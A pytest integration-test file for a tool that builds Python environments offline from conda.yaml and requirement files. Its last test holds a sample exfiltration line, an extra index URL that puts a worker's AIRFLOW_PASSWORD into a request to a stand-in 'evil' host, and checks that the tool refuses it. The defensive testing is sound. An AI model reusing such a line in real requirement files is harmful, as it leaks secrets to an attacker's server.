"""conda.yaml and requirement files, installed by uv and pip from wheels in a folder; no network."""

from __future__ import annotations

import io
import platform
import re
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from understudy.errors import EnvironmentBuildError, ProjectError
from understudy.runner.environment.store import Environment, EnvironmentStore
from understudy.runner.filesystem import make_read_only
from understudy.runner.process.process import ProcessRunner
from understudy.runner.projectfile import ProjectFile
from understudy.runner.settings import Settings

if TYPE_CHECKING:
    from tests.fixtures.wheels import Wheel

pytestmark = pytest.mark.integration

# A backend that needs no index, and writes into the folder that it builds, as setuptools does.
BUILD = """[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""
BACKEND = """
import base64, hashlib, os, zipfile
from pathlib import Path

def build_wheel(folder, config_settings=None, metadata_directory=None):
    Path("written").write_text("")
    assert not Path("../.git").exists() and Path(".git/HEAD").exists() and os.access("run", os.X_OK)
    files = {
        "lib/__init__.py": Path("lib.txt").read_text(),
        "lib-3.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: lib\\nVersion: 3.0\\n",
        "lib-3.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\n"
        "Tag: py3-none-any\\n",
    }
    record = "".join(f"{name},,\\n" for name in files) + "lib-3.0.dist-info/RECORD,,\\n"
    with zipfile.ZipFile(Path(folder, "lib-3.0-py3-none-any.whl"), "w") as archive:
        for name, text in {**files, "lib-3.0.dist-info/RECORD": record}.items():
            archive.writestr(name, text)
    return "lib-3.0-py3-none-any.whl"
"""


class Installer:
    """Has the environments of projects in one folder."""

    def __init__(self, folder: Path) -> None:
        self.project = folder / "repository" / "project"
        self.project.mkdir(parents=True)
        self.store = EnvironmentStore(Settings(folder / "cache", folder / "s"), ProcessRunner())
        self.said: list[str] = []

    def file(self, place: str, text: str) -> Path:
        """Write a file of the project."""
        path = self.project / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def install(self, text: str, manager: str = "uv", **variables: str) -> Environment:
        """Return the environment of a conda.yaml with this text, or a python_env.yaml."""
        is_conda = "python_env" not in text
        path = self.file("conda.yaml" if is_conda else "python_env.yaml", text)
        kind = "conda_env" if is_conda else "python_env"
        project = ProjectFile(self.project, "x", {}, kind, path, repository=self.project.parent)
        self.said.clear()
        with self.store.lease(project, manager, self.said.append, variables) as environment:
            return environment


@pytest.fixture
def installer(
    tmp_path: Path, wheel: Callable[..., Wheel], monkeypatch: pytest.MonkeyPatch
) -> Installer:
    """Return an installer whose index has one (1.0 and 2.0), two, and one that cannot be built."""
    wheel(tmp_path / "index", "one", "1.0")
    wheel(tmp_path / "index", "one", "2.0")
    wheel(tmp_path / "index", "two", "1.0", "one>=2")
    files = {
        "pyproject.toml": BUILD,
        "PKG-INFO": "Metadata-Version: 2.1\nName: broken\nVersion: 1.0\n",
        "backend.py": "print('a line\\n' * 100)\nraise SystemExit('no compiler')\n",
    }
    with tarfile.open(tmp_path / "index" / "broken-1.0.tar.gz", "w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"broken-1.0/{name}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    for name in ("UV", "PIP"):
        monkeypatch.setenv(f"{name}_FIND_LINKS", str(tmp_path / "index"))
    # uv 0.13 has no variable for --no-index; offline, it takes what its cache has as well.
    monkeypatch.setenv("UV_OFFLINE", "1")
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv"))
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    return Installer(tmp_path)


def packages(environment: Environment) -> list[str]:
    """Return what is installed."""
    return [line for line in environment.installed.splitlines() if not line.startswith("#")]


def test_a_conda_file_is_installed_and_said(installer: Installer) -> None:
    """In the log of each step and in the record; what conda alone has is named, and no error."""
    text = "dependencies: [one=1.0, r-base=4.1, pip: [one]]".replace("pip: [one]", "{pip: [one]}")
    for _ in range(2):
        environment = installer.install(text)
        assert packages(environment) == ["one==1.0"]
        assert installer.said[0].endswith("for the Python index: one=1.0 -> one==1.0.*")
        assert installer.said[1].startswith("Not installed of conda.yaml")
        assert environment.lacking == installer.said[1]
    assert not [line for line in installer.said if line.startswith("Building")]
    record = environment.record["conda-translated.txt"]
    assert re.search(r"^one==1\.0\.\* +# one=1\.0$", record, re.MULTILINE)
    assert "# not installed: r-base=4.1 (R)" in record


def test_the_pip_part_may_replace_what_conda_has(installer: Installer) -> None:
    """As conda does it: first its own packages, then pip's."""
    environment = installer.install("dependencies: [one=1.0, {pip: [two]}]")
    assert packages(environment) == ["one==2.0", "two==1.0"]
    assert any(line.startswith("Not all fits together") for line in installer.said)
    assert not environment.lacking


@pytest.mark.parametrize(
    ("items", "installed", "note"),
    [
        ("[one=9, {pip: [two]}]", ["one==2.0", "two==1.0"], "The versions that conda.yaml asks"),
        ("[one=9]", ["one==2.0"], "The versions that conda.yaml asks"),
        ("[unknown, {pip: [two]}]", ["one==2.0", "two==1.0"], "only its pip part"),
        ("[broken=1, {pip: [two]}]", ["one==2.0", "two==1.0"], "only its pip part"),
    ],
)
def test_what_mlflow_runs_is_run(
    installer: Installer, items: str, installed: list[str], note: str
) -> None:
    """MLflow's uv leaves out conda's packages, whatever their versions; each step says so."""
    for _ in range(2):
        environment = installer.install(f"dependencies: {items}")
        assert packages(environment) == installed
        assert sum(note in line for line in installer.said) == 1
        assert note in environment.record["not-as-asked.txt"]
        assert note in environment.lacking


def test_what_every_python_of_condas_has(
    installer: Installer, wheel: Callable[..., Wheel], tmp_path: Path
) -> None:
    """Old packages import setuptools without asking for it; an index need not have it."""
    assert packages(installer.install("dependencies: [two]")) == ["one==2.0", "two==1.0"]
    assert any("Without pip, setuptools, wheel" in line for line in installer.said)
    for name in ("pip", "setuptools", "wheel"):
        wheel(tmp_path / "index", name, "1.0")
    environment = installer.install("dependencies: [one]")
    assert packages(environment) == ["one==2.0", "pip==1.0", "setuptools==1.0", "wheel==1.0"]
    named = packages(installer.install("dependencies: [one] # python_env"))
    assert named == ["one==2.0"]


def test_a_patch_release_of_python_that_is_not_here(installer: Installer) -> None:
    """Another one of its series is taken with uv, each step says so, and the place is its own."""
    here = platform.python_version()
    series, _, patch = here.rpartition(".")
    note = f"conda.yaml asks for Python {series}.{patch}9, which is not on this machine"
    for _ in range(2):
        environment = installer.install(f"dependencies: [python={series}.{patch}9, one]")
        assert sum(line.startswith(note) for line in installer.said) == 1
        assert environment.record["not-as-asked.txt"] == environment.lacking
        assert environment.lacking in installer.said
        assert f"# Python {here}" in environment.installed
    assert not installer.install(f"dependencies: [python={series}, one]").lacking
    with pytest.raises(EnvironmentBuildError, match=r"Python 3\.4\.9, which.*Allowed: .*3\.\d+"):
        installer.install("dependencies: [python=3.4.9]")
    with pytest.raises(EnvironmentBuildError, match=r"Allowed: "):
        installer.install(f"dependencies: [python={series}.{patch}9]", "virtualenv")


def test_what_nobody_has_fails_once_and_for_all(installer: Installer) -> None:
    """With the way out."""
    with pytest.raises(
        EnvironmentBuildError, match=r"(?s)unknown.*Allowed: .*manager 'conda'"
    ) as caught:
        installer.install("dependencies: [unknown]")
    assert not caught.value.can_retry


@pytest.mark.parametrize("manager", ["uv", "virtualenv"])
def test_packages_of_the_repository(
    installer: Installer, wheel: Callable[..., Wheel], manager: str
) -> None:
    """A folder as -e, a wheel by its path, bounds: installed, and the checkout stays as it is."""
    wheel(installer.project / "wheels", "three", "1.5")
    installer.file("../lib/backend.py", BACKEND)
    installer.file("../lib/lib.txt", "HERE = True")
    installer.file("../lib/.git/HEAD", "as setuptools_scm asks it for the version")
    installer.file("../lib/run", "#!/bin/sh").chmod(0o755)
    installer.file("../lib/pyproject.toml", f'{BUILD}[project]\nname = "lib"\nversion = "3.0"\n')
    installer.file("req/all.txt", "-e ../lib\n./wheels/three-1.5-py3-none-any.whl\n-r more.txt\n")
    installer.file("req/more.txt", "-c ../bounds.txt\none\n")
    installer.file("bounds.txt", "one<2\n")
    text = "dependencies: ['-r req/all.txt'] # python_env"
    installer.file("python_env.yaml", text)
    make_read_only(installer.project.parent)
    (installer.project / "python_env.yaml").chmod(0o600)
    environment = installer.install(text, manager)
    expected = {"one==1.0", "../lib", "./wheels/three-1.5-py3-none-any.whl"}
    assert expected <= set(packages(environment))
    assert not (installer.project.parent / "lib/written").exists()
    names = ("python_env.yaml", "req/all.txt", "req/more.txt", "bounds.txt")
    assert set(environment.record) == {f"inputs/{name}" for name in names}
    assert environment.bin
    done = subprocess.run(
        [environment.bin / "python", "-c", "import lib, three; print(lib.HERE, lib.__file__)"],
        capture_output=True,
        text=True,
        check=True,
        cwd="/",
    )
    assert done.stdout.startswith(f"True {environment.bin.parent}")


TOKEN = "t0ken-of-ours"  # noqa: S105 - opens nothing


@pytest.mark.parametrize(
    "address", [f"https://me:{TOKEN}@127.0.0.1:9/simple", "https://${TOKEN}@127.0.0.1:9/simple"]
)
def test_a_token_is_nowhere(installer: Installer, tmp_path: Path, address: str) -> None:
    """Neither in the record nor in what the cache keeps, and in no message of a failed build."""
    installer.file("req.txt", f"--extra-index-url {address}\n-i https://a/x?token={TOKEN}\none\n")
    text = "dependencies: ['-r req.txt'] # python_env"
    environment = installer.install(text, TOKEN=TOKEN)
    assert "one==2.0" in packages(environment)
    kept = [environment.installed, *environment.record.values(), *installer.said]
    mark = next((tmp_path / "cache").glob("environments/*/.complete"))
    assert TOKEN not in "".join((*kept, mark.read_text()))
    installer.file("req.txt", f"--find-links {address}\nunknown\n")
    with pytest.raises(EnvironmentBuildError) as caught:
        installer.install(text, TOKEN=TOKEN)
    assert TOKEN not in "".join((str(caught.value), *installer.said))


def test_a_variable_that_the_step_is_not_given(
    installer: Installer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A project names the address that a value is sent to: it gets no variable of the worker's."""
    monkeypatch.setenv("AIRFLOW_PASSWORD", "s3cret-of-ours")
    installer.file("req.txt", "--extra-index-url https://${AIRFLOW_PASSWORD}@evil/simple\none\n")
    text = "dependencies: ['-r req.txt'] # python_env"
    with pytest.raises(ProjectError, match=r"variable\(s\) AIRFLOW_PASSWORD.*environment="):
        installer.install(text)
